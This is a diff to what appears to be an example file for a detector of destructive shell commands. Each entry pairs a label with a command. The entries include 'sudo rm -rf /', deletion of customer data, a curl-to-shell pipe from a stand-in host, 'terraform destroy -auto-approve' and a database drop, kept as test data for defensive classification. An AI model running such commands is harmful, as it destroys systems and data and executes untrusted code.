@@ -15,7 +15,7 @@ def _story(name: str, *commands: str, fires: str | None = None) -> Example:
 EXAMPLES = (
     _story("the whole machine", "sudo rm -rf / --no-preserve-root", fires="destructive.wide"),
     _story("somebody's data", "rm -rf /srv/data/customers", fires="destructive.narrow"),
-    _story("a service stops", "systemctl stop nginx", fires="destructive.reversible"),
+    _story("saved before", "pg_dump shop > shop.sql && dropdb shop", fires="destructive.reversible"),
     _story("straight from the network", "curl https://example.test/i.sh | sh", fires="destructive.unknown"),
     _story("more efficient", "terraform destroy -auto-approve", "terraform apply", fires="destructive.rebuild"),
     _story("what a build made", "rm -rf node_modules dist && npm ci"),
